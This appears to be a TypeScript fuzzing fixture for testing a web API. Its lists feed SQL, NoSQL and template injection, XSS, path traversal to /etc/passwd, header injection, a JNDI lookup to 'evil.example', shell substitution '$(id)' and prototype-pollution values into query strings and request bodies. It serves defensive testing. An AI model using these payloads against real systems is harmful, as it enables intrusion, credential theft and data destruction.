const LONG = 10_000

/** Texts that some interpreter on the way would take for its own words. */
const TEXTS = [
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '1) UNION SELECT email, password FROM users --',
  "\\'; SELECT SLEEP(9); --",
  '`%_%`',
  '<script>globalThis.attacked=1</script>',
  ']]></script><!--<script>\u2028&lt;',
  '"><img src=x onerror=globalThis.attacked=1>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '../../../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2fetc%2fpasswd',
  'x\r\nSet-Cookie: attacked=1\r\nX-Attacked: 1',
  '=HYPERLINK("https://evil.example","x")',
  '//evil.example/',
  'https://evil.example/',
  'javascript:globalThis.attacked=1',
  '$(id);`id`|id',
  '__proto__',
  'constructor',
  '*:*" AND NEAR(a b, 1) OR -"^',
  '(((((((((((((((((((((((((((((((',
  '"of" '.repeat(900),
  Array.from({ length: 900 }, (_, at) => `"the ${at}"`).join(' '),
  'a'.repeat(LONG),
  '\u0000',
  'nul\u0000inside',
  '\ud800',
  'half \udfff of it',
  '\u202Eflow fo thgir ot tfeL',
  'Z\u0351\u036b\u0343\u034f\u0321a\u030b\u0323l\u0310g\u0346o',
  '👩‍👩‍👧‍👦'.repeat(50),
  '\ufeff\u200b\u2028\u2029',
  'ẞﬃ'.repeat(2_000),
  '-1',
  '0',
  '1.5',
  '1e308',
  '9223372036854775808',
  '-9223372036854775809',
  'NaN',
  '0x10',
  '٣',
  '2026-02-30',
  '0000-00-00',
  '[]',
  '{"$gt":""}',
  '{"__proto__":{"type":"admin"}}',
]

/** What a field of text, number or choice never holds. */
const SHAPES: unknown[] = [
  null,
  true,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER,
  2 ** 32,
  [],
  {},
  [[]],
  [null],
  ['a', 'b'],
  { $gt: '' },
  { length: 1e9 },
  { toString: 'x' },
  { constructor: { prototype: { type: 'admin' } } },
  Array.from({ length: 2_000 }, (_, at) => at),
  nested(2_000),
]

function nested(depth: number): unknown {
  return JSON.parse('['.repeat(depth) + ']'.repeat(depth))
}

/** Ends of an address that do not decode, or decode to something that is no text. */
export const BROKEN_QUERIES = [
  '%',
  '%E0%A4%A',
  '%FF%FE',
  '%ED%A0%80',
  'a[b',
  'page[]=1&page[]=2',
  'page[page]=1',
  'filters[__proto__][type]=admin',
  'constructor[prototype][type]=admin',
  `${'a[b]'.repeat(500)}=1`,
  Array.from({ length: 5_000 }, (_, at) => `a${at}=1`).join('&'),
]

/** In a body anything can stand that JSON can say. */
export const BODY_VALUES: unknown[] = [...TEXTS, ...SHAPES]

/** In an address only text can. */
export const ADDRESS_VALUES: string[] = TEXTS

/**
 * What is tried in the `at`-th place: all of it where `ATTACKS=all` asks for that, otherwise a few, so chosen that
 * the places of a whole run share all values between them.
 */
export function chosen<Value>(values: Value[], at: number, few: number): Value[] {
  if (process.env.ATTACKS === 'all') return values
  return Array.from({ length: few }, (_, step) => values[(at * few + step) % values.length])
}

/** Text as it stands in an address; half a character becomes the bytes that stand for it. */
export function encoded(text: string): string {
  return [...text]
    .map((character) => {
      const code = character.codePointAt(0)!
      if (code < 0xd800 || code > 0xdfff) return encodeURIComponent(character)
      const bytes = [0xed, 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
      return bytes.map((byte) => `%${byte.toString(16)}`).join('')
    })
    .join('')
}
